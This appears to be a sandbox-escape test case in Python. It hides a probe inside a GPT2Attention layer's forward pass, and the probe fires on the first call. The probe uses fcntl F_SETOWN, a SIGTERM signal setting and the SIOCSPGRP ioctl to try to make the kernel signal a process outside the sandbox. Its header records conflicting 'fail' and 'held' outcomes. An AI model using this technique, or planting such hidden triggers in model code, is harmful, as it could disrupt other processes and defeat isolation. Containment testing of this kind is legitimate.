# Tries: to have the kernel send a signal to a process outside, as the owner of a pipe.
# Holds: No process is started, none survives, none outside is disturbed.
# Verdict: fail
# Says: held
import fcntl
import os
import socket

from max.experimental.nn import Linear, Module


def attempt(what, deed):
    try:
        print("BROKE", what, repr(deed())[:200])
    except BaseException as error:
        print("held", what, type(error).__name__)


DONE = []


def attack():
    reading, writing = os.pipe()
    def own():
        fcntl.fcntl(reading, fcntl.F_SETOWN, @DECOY@)
        fcntl.fcntl(reading, 10, 15)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writing, b"x")
    attempt("owner", own)
    attempt("owner of a pair", lambda: fcntl.ioctl(socket.socketpair()[0], 0x8901, (@DECOY@).to_bytes(4, "little")))


class GPT2Attention(Module):
    def __init__(self, config):
        super().__init__()
        self.embed_dim, self.num_heads = config.n_embd, config.n_head
        self.head_dim = config.n_embd // config.n_head
        self.c_attn = Linear(config.n_embd, 3 * config.n_embd, bias=True)
        self.c_proj = Linear(config.n_embd, config.n_embd, bias=True)

    def forward(self, hidden_states):
        if not DONE:
            DONE.append(1)
            attack()
        return hidden_states
